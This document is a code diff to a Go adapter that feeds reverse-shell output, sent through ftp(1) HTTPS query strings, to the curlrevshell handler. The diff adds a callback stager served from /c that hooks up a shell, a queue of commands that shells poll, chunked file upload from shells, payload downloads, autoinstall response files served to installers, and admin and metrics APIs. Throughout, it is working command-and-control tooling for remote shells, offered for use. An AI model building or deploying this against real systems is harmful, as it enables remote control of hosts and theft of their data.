@@ -7,17 +7,26 @@ package main
  * Adapter to convert ftp(1) HTTPS path query strings to curlrevshell input
  * By J. Stuart McMurray
  * Created 20260111
- * Last Modified 20260124
+ * Last Modified 20261018
  */
 
 import (
+	"context"
 	"crypto/tls"
+	"crypto/x509"
+	"errors"
 	"flag"
 	"fmt"
 	"log"
+	"net"
 	"net/http"
+	"net/url"
 	"os"
+	"os/signal"
 	"path/filepath"
+	"strings"
+	"syscall"
+	"time"
 
 	"github.com/magisterquis/curlrevshell/lib/crsdialer"
 	"github.com/magisterquis/curlrevshell/lib/pledgeunveil"
@@ -50,6 +59,162 @@ func main() {
 			"https://127.0.0.1:4444/o",
 			"Curlrevshell's base output `URL`",
 		)
+		crsFP = flag.String(
+			"curlrevshell-fingerprint",
+			"",
+			"Curlrevshell's TLS certificate `fingerprint`, "+
+				"if not the same as ours",
+		)
+		crsCA = flag.String(
+			"curlrevshell-ca",
+			"",
+			"CA bundle `file` for verifying curlrevshell's TLS "+
+				"certificate",
+		)
+		crsArchive = flag.String(
+			"curlrevshell-tls",
+			"",
+			"Curlrevshell's TLS certificate and key `archive`, "+
+				"if not the same as ours",
+		)
+		reorderLimit = flag.Uint(
+			"reorder-limit",
+			DefaultReorderLimit,
+			"Maximum `number` of out-of-order lines to hold "+
+				"per connection",
+		)
+		reorderTimeout = flag.Duration(
+			"reorder-timeout",
+			DefaultReorderTimeout,
+			"Maximum `duration` to wait for a missing line",
+		)
+		queueLines = flag.Uint(
+			"queue-lines",
+			DefaultQueueLines,
+			"Maximum `number` of lines queued per connection, "+
+				"or 0 for no limit",
+		)
+		queueBytes = flag.Uint(
+			"queue-bytes",
+			DefaultQueueBytes,
+			"Maximum `number` of bytes queued per connection, "+
+				"or 0 for no limit",
+		)
+		reconnectTries = flag.Uint(
+			"reconnect-tries",
+			DefaultReconnectTries,
+			"Maximum `number` of times to reconnect a failed "+
+				"connection",
+		)
+		reconnectWait = flag.Duration(
+			"reconnect-wait",
+			DefaultReconnectWait,
+			"Initial `duration` to wait before reconnecting, "+
+				"doubled each try",
+		)
+		replayLines = flag.Uint(
+			"replay-lines",
+			DefaultReplayLines,
+			"Resend up to this `number` of lines after reconnecting",
+		)
+		sinkSpec = flag.String(
+			"sink",
+			"curlrevshell",
+			"Output `sink`, one of curlrevshell, stdout, "+
+				"stdout:split, file:dir, or tcp:addr",
+		)
+		drainTimeout = flag.Duration(
+			"drain-timeout",
+			10*time.Second,
+			"Maximum `duration` to wait for connections to finish "+
+				"when shutting down",
+		)
+		secretHex = flag.String(
+			"secret",
+			"",
+			"Hex-encoded shared `secret` for authenticating IDs",
+		)
+		adminAddr = flag.String(
+			"admin",
+			"",
+			"Admin API listen `address` or unix socket path",
+		)
+		metricsAddr = flag.String(
+			"metrics",
+			"",
+			"Optional Prometheus metrics listen `address`",
+		)
+		recordDir = flag.String(
+			"record-dir",
+			"",
+			"Optional `directory` in which to record transcripts",
+		)
+		fileDir = flag.String(
+			"file-dir",
+			"",
+			"Optional `directory` in which to save files sent to /file",
+		)
+		dlDir = flag.String(
+			"dl-dir",
+			"",
+			"Optional `directory` of files to serve from /dl",
+		)
+		aiDir = flag.String(
+			"autoinstall-dir",
+			"",
+			"Optional `directory` of autoinstall(8) response file "+
+				"templates",
+		)
+		aiAddr = flag.String(
+			"autoinstall-listen",
+			"0.0.0.0:80",
+			"Plain HTTP listen `address` for response files, "+
+				"with -autoinstall-dir",
+		)
+		inputWait = flag.Duration(
+			"input-wait",
+			DefaultInputWait,
+			"Maximum `wait` for a command when polled for input",
+		)
+		stagerAddr = flag.String(
+			"stager-address",
+			"",
+			"Serve a stager from /c which calls back to `address`",
+		)
+		stagerCAFile = flag.String(
+			"stager-cafile",
+			DefaultStagerCAFile,
+			"Stager's and downloads' `path` on the installer to "+
+				"our certificate",
+		)
+		stagerInput = flag.String(
+			"stager-input",
+			"",
+			"Curlrevshell's input `URL` for the stager, or poll "+
+				"/input if unset",
+		)
+		stagerKeepAlive = flag.Duration(
+			"stager-keepalive",
+			DefaultStagerKeepAlive,
+			"Stager's keepalive `interval`",
+		)
+		stagerBatchWait = flag.Duration(
+			"stager-batch-wait",
+			0,
+			"Stager's `wait` to batch output lines, or 0 for no batching",
+		)
+		stagerCompress = flag.Bool(
+			"stager-compress",
+			true,
+			"Compress the stager's batches of output lines",
+		)
+		overflow OverflowPolicy
+	)
+	flag.TextVar(
+		&overflow,
+		"overflow",
+		OverflowBlock,
+		"Full queue `policy`, one of block, drop-oldest, or reject",
 	)
 	flag.Usage = func() {
 		fmt.Fprintf(
@@ -60,29 +225,286 @@ Adapter to convert ftp(1) HTTPS path query strings to curlrevshell input
 
 Lines sent in query strings for a single connection  start with a number and
 whitespace.  The first message on the connection should start with 1.  The
-easiest way to do this is pass the output through cat -n.
+easiest way to do this is pass the output through cat -n.  A line numbered 0 is
+a run marker, sent when the shell starts and not passed on.  A different run
+marker or line 1 for an open connection means the shell restarted, and starts a
+new connection once the old one is finished.  Lines which arrive out of order
+are held until the missing lines arrive, up to -reorder-limit lines or
+-reorder-timeout, after which the missing lines are skipped.  Lines waiting to
+be sent are queued up to -queue-lines lines or -queue-bytes bytes per
+connection, after which -overflow says whether to wait for room, drop the
+oldest queued lines, or reject lines with a 503.  If the connection to
+curlrevshell fails, it is retried up to -reconnect-tries times and the last
+-replay-lines lines are sent again, as they may not have made it.
+
+Curlrevshell's TLS certificate is expected to be the same as ours, from -tls.
+If it's not, e.g. because curlrevshell is on a different host, it may be
+verified with its fingerprint from -curlrevshell-fingerprint, a CA bundle from
+-curlrevshell-ca, or its certificate archive from -curlrevshell-tls.
+
+Output normally goes to curlrevshell, but -sink may be used to instead append
+each connection's lines to a file named after its ID in a directory or send
+them over a TCP connection per ID.  For debugging without curlrevshell,
+-sink stdout prints each line prefixed with its ID and -sink stdout:split
+prints lines under a header whenever the ID changes, like tail(1).  In this
+console mode, logs go to stderr.
+
+With -secret, requests must have a token after the ID in the URL path, e.g.
+/line/{ID}/{token}?line..., or get a 403.  The token is the hex-encoded
+HMAC-SHA256 of the ID keyed with the secret, which may be up to %d bytes.
+
+With -admin, a plain HTTP JSON API is served on a unix socket if the address
+contains a /, or else on the given TCP address, which needs -secret.  Over TCP,
+requests must have an Authorization: Bearer {token} header, with the token for
+the ID %s, or get a 403.
+GET /sessions lists open connections, GET /sessions/{ID} describes one
+connection, and DELETE /sessions/{ID} closes it.  PUT /sessions/{ID}/keepalive
+with a duration in the body changes a connection's keepalive timeout, and
+GET /sessions/{ID}/tail streams its output.  POST /sessions/{ID}/input queues
+the commands in the body, one per line, for /input/{ID}.  The oqactl command
+makes this easier.
+
+With -metrics, counts of requests per route, lines and bytes sent upstream,
+sessions opened, closed, and timed out, upstream failures by HTTP status, and
+keepalives, as well as a histogram of how long queuing each line took, are
+served in the Prometheus text format over plain HTTP from /metrics on the
+given address.
+
+Shells may poll /input/{ID}?N for commands queued after command N, or all of
+them if N is 0 or missing.  The response has a line per command, each starting
+with its number.  If no commands are queued, the request waits up to
+-input-wait for one.  Commands are kept until they've been polled for with a
+higher N, so a shell which misses a response will get them again.  Once an
+ID's connection closes, the ID is forgotten when it has no commands left.
+
+With -record-dir, every line sent is also appended to a transcript file named
+after its ID with a %s suffix in the given directory, which must
+exist.  Each line in a transcript has when the line arrived, where it came
+from, and its number.  Transcripts also note when connections open, close, and
+time out.  The oqareplay command replays them.
+
+With -file-dir, files may be sent in numbered chunks to /file/{ID}/{name}.
+Each chunk is sent as /file/{ID}/{name}?enc.N.data, with N starting at 1 and
+data encoded with enc, one of b64 (base64url) or hex.  Once every chunk has
+been sent, /file/{ID}/{name}?end.count.sha256 checks the file's SHA256 and
+saves it in a directory named after its ID in the given directory.  If chunks
+are missing, the response has a line for each range of missing chunks, as from
+/status.  Otherwise, the response is ok and the checksum, or a 409 if the file
+wasn't what was sent, in which case it should be sent again.  A count past the
+last chunk received gets a 400.  Files are held in memory until they're saved,
+up to %dMB per file and %d files at once, %d per ID.
+
+With -stager-address, a script which hooks up a shell, like curlrevshell's, is
+served from /c, each time with a new ID.  The script calls back to the given
+address and takes input from -stager-input, e.g. https://10.0.0.10:4444/i, or
+by polling /input.  Shells send keepalives every -stager-keepalive, rounded to
+the second, which must be less than %s.
+With -secret, the path is /c/{token}, with the token for the ID /c.  A command
+to get a shell is logged on startup.
+
+With -dl-dir, the files in the given directory are served read-only from
+/dl/{name}, or /dl/{token}/{name} with -secret, with the token for the ID /dl.
+/dl/%s is a list of the files' checksums, for sha256 -C.  A command to
+download each file to the current directory and check its checksum is logged
+on startup, using -stager-address, or the listen address if it's not set.
+
+With -autoinstall-dir, autoinstall(8) response files are served over plain
+HTTP on -autoinstall-listen, without tokens, as /{MAC}-{mode}.conf or
+/{mode}.conf, with mode one of install or upgrade.  Each is rendered from the
+first of {MAC}-{mode}.conf, {IP}-{mode}.conf, and {mode}.conf found in the
+given directory, with MAC from the request, if it has one, and IP the
+installer's address.  Templates are Go text/templates, read for every
+request, and may use {{.MAC}}, {{.IP}}, {{.Mode}}, and {{.Path}}, the path
+query parameter from the installer, e.g. 7.8/amd64.  Which file was sent to
+whom is logged, as is the response itself with -debug.  Anybody who can reach
+the listener can get a response file, so passwords in them should be hashed.
+
+On SIGINT or SIGTERM, new requests are refused and queued lines are sent for up
+to -drain-timeout before exiting.
 
 The URL path should be
-/line/{id}?line... for an output line
-/close/{ID}        to close an output stream
-/keepalive/{ID}    to keep a connection alive for another %s
+/line/{id}?line...   for an output line
+/lines/{ID}?l1&l2... for several consecutive output lines, with &, %%, and + in
+                     lines URL-encoded
+/chunk/{ID}?c.N.data for output lines starting with line N, compressed with c,
+                     one of gzip or deflate (raw), and base64url-encoded
+/close/{ID}          to close an output stream
+/keepalive/{ID}      to keep a connection alive for another %s
+/status/{ID}         to get the last line number sent and missing line ranges
+/resend/{ID}?line... to resend a missing line
+/file/{ID}/{name}?.. to send a file in chunks, with -file-dir
+/input/{ID}?N        to get commands after command N
+/c                   for a new shell's script, with -stager-address
+/dl/{name}           to download a file, with -dl-dir
 
 Options:
 `,
 			filepath.Base(os.Args[0]),
+			MaxSecretLen,
+			AdminTokenID,
+			TranscriptSuffix,
+			MaxFileSize/1024/1024,
+			MaxPartialFiles,
+			MaxPartialFilesPerID,
+			MaxKeepAliveWait,
+			DownloadsSumsName,
 			MaxKeepAliveWait,
 		)
 		flag.PrintDefaults()
 	}
 	flag.Parse()
 
+	var secret []byte
+	if "" != *secretHex {
+		var err error
+		if secret, err = ParseSecret(*secretHex); nil != err {
+			log.Fatalf("Invalid secret: %s", err)
+		}
+	}
+
+	/* Shells which don't keep alive often enough would time out. */
+	if MaxKeepAliveWait <= stagerKeepAlive.Round(time.Second) {
+		log.Fatalf(
+			"-stager-keepalive must be less than %s",
+			MaxKeepAliveWait,
+		)
+	}
+
 	if err := pledgeunveil.Unveil(*certFile, "rwc"); nil != err {
 		log.Fatalf("Error unveiling %s: %s", *certFile, err)
 	}
-	pledgeunveil.MustPledge("cpath inet rpath stdio wpath")
 
-	/* Work out logging. */
+	/* Work out where output goes and what we'll need to pledge once
+	we're set up.  Names only need to be resolved if they're not IP
+	addresses. */
+	promises := "inet stdio"
+	sinkKind, sinkArg, _ := strings.Cut(*sinkSpec, ":")
+	switch sinkKind {
+	case "curlrevshell":
+		for _, fn := range []string{*crsCA, *crsArchive} {
+			if "" == fn {
+				continue
+			}
+			if err := pledgeunveil.Unveil(fn, "r"); nil != err {
+				log.Fatalf("Error unveiling %s: %s", fn, err)
+			}
+		}
+		if u, err := url.Parse(*baseURL); nil != err ||
+			needsDNS(u.Hostname()) {
+			promises += " dns"
+		}
+	case "stdout":
+		if "" != sinkArg && "split" != sinkArg {
+			log.Fatalf("Unknown stdout sink style %q", sinkArg)
+		}
+	case "file":
+		if err := pledgeunveil.Unveil(sinkArg, "rwc"); nil != err {
+			log.Fatalf("Error unveiling %s: %s", sinkArg, err)
+		}
+		promises = "cpath inet rpath stdio wpath"
+	case "tcp":
+		if h, _, err := net.SplitHostPort(sinkArg); nil != err ||
+			needsDNS(h) {
+			promises += " dns"
+		}
+	default:
+		log.Fatalf("Unknown sink %q", *sinkSpec)
+	}
+
+	/* Transcripts need somewhere to go. */
+	if "" != *recordDir {
+		if err := pledgeunveil.Unveil(*recordDir, "rwc"); nil != err {
+			log.Fatalf("Error unveiling %s: %s", *recordDir, err)
+		}
+		promises += " cpath rpath wpath"
+	}
+
+	/* As do files. */
+	if "" != *fileDir {
+		if err := pledgeunveil.Unveil(*fileDir, "rwc"); nil != err {
+			log.Fatalf("Error unveiling %s: %s", *fileDir, err)
+		}
+		promises += " cpath rpath wpath"
+	}
+
+	/* Downloads are only read. */
+	if "" != *dlDir {
+		if err := pledgeunveil.Unveil(*dlDir, "r"); nil != err {
+			log.Fatalf("Error unveiling %s: %s", *dlDir, err)
+		}
+		promises += " rpath"
+	}
+
+	/* Response file templates are also only read, and need their own
+	listener. */
+	var ail net.Listener
+	if "" != *aiDir {
+		if err := pledgeunveil.Unveil(*aiDir, "r"); nil != err {
+			log.Fatalf("Error unveiling %s: %s", *aiDir, err)
+		}
+		promises += " rpath"
+		var err error
+		if ail, err = net.Listen("tcp", *aiAddr); nil != err {
+			log.Fatalf(
+				"Error starting autoinstall listener: %s",
+				err,
+			)
+		}
+	}
+
+	/* Metrics get their own listener, too. */
+	var ml net.Listener
+	if "" != *metricsAddr {
+		var err error
+		if ml, err = net.Listen("tcp", *metricsAddr); nil != err {
+			log.Fatalf("Error starting metrics listener: %s", err)
+		}
+	}
+
+	/* Start the admin listener, if we have one.  Only a unix socket's
+	permissions keep out strangers, so TCP needs a token. */
+	var (
+		al      net.Listener
+		asecret []byte
+	)
+	if "" != *adminAddr {
+		if !strings.Contains(*adminAddr, "/") {
+			if 0 == len(secret) {
+				log.Fatalf(
+					"The admin API needs -secret if " +
+						"it's not on a unix socket",
+				)
+			}
+			asecret = secret
+		} else {
+			if err := pledgeunveil.Unveil(
+				*adminAddr,
+				"rwc",
+			); nil != err {
+				log.Fatalf(
+					"Error unveiling %s: %s",
+					*adminAddr,
+					err,
+				)
+			}
+			promises += " cpath unix" /* Unlink on close. */
+		}
+		var err error
+		if al, err = ListenAdmin(*adminAddr); nil != err {
+			log.Fatalf("Error starting admin listener: %s", err)
+		}
+	}
+
+	/* We need to read and write files until we're set up.  pledge(2)
+	can't add promises later, so we also need everything we'll need
+	after. */
+	pledgeunveil.MustPledge(promises + " cpath rpath wpath")
+
+	/* Work out logging.  In console mode, stdout's for output. */
 	log.SetOutput(os.Stdout)
+	if "stdout" == sinkKind {
+		log.SetOutput(os.Stderr)
+	}
 	if !*debugOn {
 		Debugf = func(string, ...any) {}
 	}
@@ -93,25 +515,274 @@ Options:
 		log.Fatalf("Error starting listener: %s", err)
 	}
 
-	pledgeunveil.MustPledge("inet stdio")
+	/* Set up the sink. */
+	var sink Sink
+	switch sinkKind {
+	case "curlrevshell":
+		tc, err := upstreamTLSConfig(
+			l.Fingerprint,
+			*crsFP,
+			*crsCA,
+			*crsArchive,
+		)
+		if nil != err {
+			log.Fatalf(
+				"Error setting up TLS to curlrevshell: %s",
+				err,
+			)
+		}
+		sink = NewHTTPSink(*baseURL, newHTTPClient(tc))
+	case "stdout":
+		ws := NewWriterSink(os.Stdout)
+		ws.Split = "split" == sinkArg
+		sink = ws
+	case "file":
+		if sink, err = NewFileSink(sinkArg); nil != err {
+			log.Fatalf("Error setting up file sink: %s", err)
+		}
+	case "tcp":
+		sink = NewTCPSink(sinkArg)
+	}
+
+	/* Set up transcript recording, if we're recording. */
+	var rec *Recorder
+	if "" != *recordDir {
+		if rec, err = NewRecorder(*recordDir); nil != err {
+			log.Fatalf("Error setting up transcripts: %s", err)
+		}
+	}
+
+	/* Set up receiving files, if we're receiving them. */
+	var files *FileReceiver
+	if "" != *fileDir {
+		if files, err = NewFileReceiver(*fileDir); nil != err {
+			log.Fatalf("Error setting up file receiving: %s", err)
+		}
+		log.Printf("Saving files in %s", *fileDir)
+	}
+
+	/* Set up downloads, if we're serving them. */
+	var dl *Downloads
+	if "" != *dlDir {
+		if dl, err = NewDownloads(*dlDir, secret); nil != err {
+			log.Fatalf("Error setting up downloads: %s", err)
+		}
+	}
+
+	/* Set up response files, if we're serving them. */
+	var ai *AutoInstaller
+	if "" != *aiDir {
+		if ai, err = NewAutoInstaller(*aiDir); nil != err {
+			log.Fatalf("Error setting up response files: %s", err)
+		}
+	}
+
+	pledgeunveil.MustPledge(promises)
 
 	/* Serve HTTP. */
-	client, err := newHTTPClient(l.Fingerprint)
-	if nil != err {
-		log.Fatalf("Error setting up HTTP client: %s", err)
+	cm := NewConnManager(sink)
+	cm.ReorderLimit = int(*reorderLimit)
+	cm.ReorderTimeout = *reorderTimeout
+	cm.QueueLines = int(*queueLines)
+	cm.QueueBytes = int(*queueBytes)
+	cm.Overflow = overflow
+	cm.ReconnectTries = int(*reconnectTries)
+	cm.ReconnectWait = *reconnectWait
+	cm.ReplayLines = int(*replayLines)
+	var metrics *Metrics
+	if nil != ml {
+		metrics = NewMetrics()
+		cm.Metrics = metrics
+	}
+	if nil != rec {
+		cm.OnEvent(rec.HandleEvent)
+		log.Printf("Recording transcripts in %s", *recordDir)
+	}
+
+	/* Serve until we're told to stop. */
+	ctx, stop := signal.NotifyContext(
+		context.Background(),
+		os.Interrupt,
+		syscall.SIGTERM,
+	)
+	defer stop()
+	input := NewInputQueue()
+	input.Wait = *inputWait
+	cm.OnEvent(input.HandleEvent)
+	var stager *Stager
+	if "" != *stagerAddr {
+		stager = NewStager(StagerConfig{
+			Addr:      *stagerAddr,
+			CAFile:    *stagerCAFile,
+			InputURL:  *stagerInput,
+			KeepAlive: *stagerKeepAlive,
+			BatchWait: *stagerBatchWait,
+			Compress:  *stagerCompress,
+		}, secret)
 	}
+	svr := &http.Server{Handler: NewMux(
+		cm,
+		files,
+		input,
+		stager,
+		dl,
+		metrics,
+		secret,
+	)}
+	ech := make(chan error, 1)
+	go func() { ech <- svr.Serve(l) }()
 	log.Printf("Serving HTTPS on %s", l.Addr())
-	if err := http.Serve(
-		l,
-		NewMux(NewConnManager(*baseURL, client)),
-	); nil != err {
+	if nil != stager {
+		log.Printf("To get a shell:\n\n%s\n", stager.Command())
+	}
+	if nil != dl {
+		addr := *stagerAddr
+		if "" == addr {
+			addr = l.Addr().String()
+		}
+		logDownloads(dl, *dlDir, addr, *stagerCAFile)
+	}
+	/* The admin API's tailer hooks into cm, so only make it if we need
+	it. */
+	var asvr *http.Server
+	aech := make(chan error, 1)
+	if nil != al {
+		asvr = &http.Server{Handler: NewAdminMux(cm, input, asecret)}
+		go func() { aech <- asvr.Serve(al) }()
+		log.Printf("Serving admin API on %s", al.Addr())
+	}
+	var aisvr *http.Server
+	aiech := make(chan error, 1)
+	if nil != ail {
+		aisvr = &http.Server{Handler: NewAutoInstallMux(ai)}
+		go func() { aiech <- aisvr.Serve(ail) }()
+		log.Printf(
+			"Serving response files from %s on %s",
+			*aiDir,
+			ail.Addr(),
+		)
+	}
+	var msvr *http.Server
+	mech := make(chan error, 1)
+	if nil != ml {
+		msvr = &http.Server{Handler: NewMetricsMux(metrics)}
+		go func() { mech <- msvr.Serve(ml) }()
+		log.Printf("Serving metrics on %s", ml.Addr())
+	}
+	select {
+	case err := <-ech:
 		log.Fatalf("Fatal error: %s", err)
+	case err := <-aech:
+		log.Fatalf("Fatal admin API error: %s", err)
+	case err := <-aiech:
+		log.Fatalf("Fatal autoinstall error: %s", err)
+	case err := <-mech:
+		log.Fatalf("Fatal metrics error: %s", err)
+	case <-ctx.Done():
+	}
+	stop() /* Another signal kills us. */
+
+	/* Stop taking lines and let everything drain. */
+	log.Printf(
+		"Shutting down, waiting up to %s for connections to finish",
+		*drainTimeout,
+	)
+	sctx, cancel := context.WithTimeout(
+		context.Background(),
+		*drainTimeout,
+	)
+	defer cancel()
+	input.Close() /* Don't wait for long polls. */
+	if err := svr.Shutdown(sctx); nil != err {
+		log.Printf("Error stopping HTTP service: %s", err)
+	}
+	if err := cm.Shutdown(sctx); nil != err {
+		log.Printf("Error closing connections: %s", err)
+	}
+	if err := <-ech; !errors.Is(err, http.ErrServerClosed) {
+		log.Printf("Error serving HTTPS: %s", err)
 	}
+	if nil != al {
+		if err := asvr.Shutdown(sctx); nil != err {
+			log.Printf("Error stopping admin API: %s", err)
+		}
+		if err := <-aech; !errors.Is(err, http.ErrServerClosed) {
+			log.Printf("Error serving admin API: %s", err)
+		}
+	}
+	if nil != ail {
+		if err := aisvr.Shutdown(sctx); nil != err {
+			log.Printf("Error stopping autoinstall: %s", err)
+		}
+		if err := <-aiech; !errors.Is(err, http.ErrServerClosed) {
+			log.Printf("Error serving response files: %s", err)
+		}
+	}
+	if nil != ml {
+		if err := msvr.Shutdown(sctx); nil != err {
+			log.Printf("Error stopping metrics: %s", err)
+		}
+		if err := <-mech; !errors.Is(err, http.ErrServerClosed) {
+			log.Printf("Error serving metrics: %s", err)
+		}
+	}
+	log.Printf("Goodbye.")
 }
 
-// newHTTPClient rolls an http.Client which checks if connected TLS servers'
-// certificates match the given fingerprint.
-func newHTTPClient(fp string) (*http.Client, error) {
+// upstreamTLSConfig returns a TLS config which verifies curlrevshell's
+// certificate with at most one of a fingerprint, a CA bundle file, or the
+// certificate in a txtar archive.  If none are given, the certificate must
+// have the fingerprint defaultFP.
+func upstreamTLSConfig(
+	defaultFP string,
+	fp string,
+	caFile string,
+	archive string,
+) (*tls.Config, error) {
+	/* Make sure we only have one way to verify. */
+	var n int
+	for _, v := range []string{fp, caFile, archive} {
+		if "" != v {
+			n++
+		}
+	}
+	if 1 < n {
+		return nil, errors.New(
+			"only one of a fingerprint, CA bundle, or archive " +
+				"may be used",
+		)
+	}
+
+	/* Work out what to trust. */
+	switch {
+	case "" != caFile:
+		b, err := os.ReadFile(caFile)
+		if nil != err {
+			return nil, fmt.Errorf("reading CA bundle: %w", err)
+		}
+		pool := x509.NewCertPool()
+		if !pool.AppendCertsFromPEM(b) {
+			return nil, fmt.Errorf(
+				"no certificates found in %s",
+				caFile,
+			)
+		}
+		return &tls.Config{RootCAs: pool}, nil
+	case "" != archive:
+		cert, err := sstls.LoadCachedCertificate(archive)
+		if nil != err {
+			return nil, fmt.Errorf("loading certificate: %w", err)
+		}
+		if fp, err = sstls.PubkeyFingerprintTLS(cert); nil != err {
+			return nil, fmt.Errorf(
+				"getting certificate fingerprint: %w",
+				err,
+			)
+		}
+	case "" == fp:
+		fp = defaultFP
+	}
+
 	/* Fingerprint verifier. */
 	vc, err := crsdialer.TLSFingerprintVerifier(fp)
 	if nil != err {
@@ -120,16 +791,41 @@ func newHTTPClient(fp string) (*http.Client, error) {
 			err,
 		)
 	}
+	return &tls.Config{
+		InsecureSkipVerify: true,
+		VerifyConnection:   vc,
+	}, nil
+}
+
+// needsDNS returns true if host isn't an IP address, and so will need to be
+// resolved.
+func needsDNS(host string) bool { return nil == net.ParseIP(host) }
 
-	/* Transport. */
+// newHTTPClient rolls an http.Client which verifies connected TLS servers'
+// certificates using tc.
+func newHTTPClient(tc *tls.Config) *http.Client {
 	t := http.DefaultTransport.(*http.Transport).Clone()
 	t.ExpectContinueTimeout = 0
 	t.ForceAttemptHTTP2 = true
-	t.TLSClientConfig = &tls.Config{
-		InsecureSkipVerify: true,
-		VerifyConnection:   vc,
-	}
+	t.TLSClientConfig = tc
+	return &http.Client{Transport: t}
+}
 
-	/* Client. */
-	return &http.Client{Transport: t}, nil
+// logDownloads logs a command to get each of dl's files, from dir.
+func logDownloads(dl *Downloads, dir, addr, cafile string) {
+	dls, err := dl.List()
+	if nil != err {
+		log.Printf("Error listing downloads in %s: %s", dir, err)
+		return
+	}
+	var sb strings.Builder
+	for _, d := range dls {
+		fmt.Fprintf(&sb, "%s\n", dl.Command(d, addr, cafile))
+	}
+	log.Printf(
+		"Serving %d downloads from %s:\n\n%s",
+		len(dls),
+		dir,
+		sb.String(),
+	)
 }